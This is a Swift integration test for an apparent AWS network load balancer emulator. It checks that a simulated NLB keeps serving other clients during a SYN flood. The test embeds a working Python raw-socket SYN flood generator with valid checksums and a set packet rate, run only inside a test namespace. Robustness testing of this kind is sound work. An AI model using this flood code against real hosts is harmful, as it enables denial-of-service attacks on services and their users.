import Foundation
import Glibc
import Testing
import TestSupport
import Topology

/// A bounded SYN flood, run inside a namespace with /usr/bin/python3: RATE SYNs a second for
/// SECONDS from SRC (the namespace's own address, so the source/destination check passes) to
/// DST:PORT, cycling through COUNT source ports from FIRST, each SYN with valid checksums. Prints
/// how many it sent and in how long.
let synFloodScript = """
    import socket, struct, sys, time
    src, dst, dport, rate, seconds, first, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]), int(sys.argv[6]), int(sys.argv[7])
    def checksum(data):
        total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
        while total >> 16: total = (total & 0xFFFF) + (total >> 16)
        return ~total & 0xFFFF
    s4, d4 = socket.inet_aton(src), socket.inet_aton(dst)
    packets = []
    for port in range(first, first + count):
        tcp = struct.pack('!HHIIBBHHH', port, dport, 1000 + port, 0, 5 << 4, 0x02, 65535, 0, 0)
        tcp = tcp[:16] + struct.pack('!H', checksum(s4 + d4 + struct.pack('!BBH', 0, 6, 20) + tcp)) + tcp[18:]
        ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, port, 0, 64, 6, 0, s4, d4)
        packets.append(ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:] + tcp)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent, start = 0, time.monotonic()
    while time.monotonic() - start < seconds:
        due = int((time.monotonic() - start) * rate) + rate // 1000
        while sent < due:
            try: sock.sendto(packets[sent % count], (dst, 0))
            except OSError: pass
            sent += 1
        time.sleep(0.0005)
    print(sent, round(time.monotonic() - start, 3))
    """

extension LiveCommandTests {
    /// 100,000 SYNs a second for 10 s from client-a (whose own kernel is told to drop the
    /// SYN-ACKs, as a flooder's would be), on 60,000 source ports: more than the 55,000 source
    /// ports the NLB node has towards web-a:80, and nearly the whole flow table. Meanwhile
    /// client-a2, in the same zone, opens new connections to the same listener, and an iperf3
    /// stream established before the flood keeps flowing through it (docs/aws-behaviour.md §1: the
    /// NLB keeps no half-open connections).
    @Test func aSYNFloodDeniesNoOtherClient() throws {
        let yaml = liveTopologyYAML().replacingOccurrences(
            of: "  - {name: client-a, subnet: consumer-a}\n",
            with: "  - {name: client-a, subnet: consumer-a}\n  - {name: client-a2, subnet: consumer-a}\n")
        let run = try LiveRun(name: "live-flood", yaml: yaml)
        let flooded = Topology.load(yaml: yaml).topology!
        let endpoint = flooded[flooded.endpoints[0].interfaces[0]].ipv4!.description
        guard case .vpc(let attackerENI) = flooded.hosts.first(where: { $0.name == "client-a" })!.placement else {
            Issue.record("client-a is not a VPC host")
            return
        }
        let attacker = flooded[attackerENI].ipv4!.description

        let server = try run.start("web-a", "iperf3", ["-s", "-1", "-p", "5201"])
        defer { if server.isRunning { kill(server.processIdentifier, SIGKILL) } }
        usleep(500_000)
        let stream = try run.start("client-a2", "iperf3", ["-c", endpoint, "-p", "5201", "-t", "16", "-b", "20M", "-J"])
        sleep(2)
        let drop = try run.run("client-a", "nft", ["add table inet flood; add chain inet flood input { type filter hook input priority 0; }; add rule inet flood input tcp dport 1024-61023 drop"])
        #expect(drop.status == 0, "\(drop.error)")
        let flood = try run.start("client-a", "/usr/bin/python3", ["-c", synFloodScript, attacker, endpoint, "80", "100000", "10", "1024", "60000"])
        sleep(3)
        // Well into the flood (past 55,000 SYNs): new connections from the other client.
        var answers: [String] = []
        for _ in 0..<10 {
            answers.append(try run.get("client-a2", "http://\(endpoint)/") ?? "failed")
            usleep(300_000)
        }
        #expect(answers.allSatisfy { $0 == "served by web-a in us-east-1a" }, "\(answers)")
        let floodOutput = output(flood).split(separator: " ")
        let sent = Int(floodOutput.first ?? "") ?? 0
        #expect(sent > 300_000, "the flood ran: \(floodOutput)")

        // The stream, established before the flood, moved data in every second of it.
        let report = try JSONSerialization.jsonObject(with: Data(output(stream).utf8)) as? [String: Any]
        let intervals = (report?["intervals"] as? [[String: Any]] ?? []).map { (($0["sum"] as? [String: Any])?["bytes"] as? Int) ?? 0 }
        #expect(intervals.count >= 15 && intervals.allSatisfy { $0 > 0 }, "bytes per second: \(intervals)")
        let log = run.stop()
        #expect(!log.contains("dropped port-exhausted") && !log.contains("dropped flow-table-full"), "\(log)")
        #expect(log.contains("closed or half-open sessions ended to make room for new flows: "), "\(log)")
        print("SYN flood: \(sent) SYNs sent in \(floodOutput.last ?? "?") s; privet up said:\n\(log.split(separator: "\n").suffix(6).joined(separator: "\n"))")
    }
}
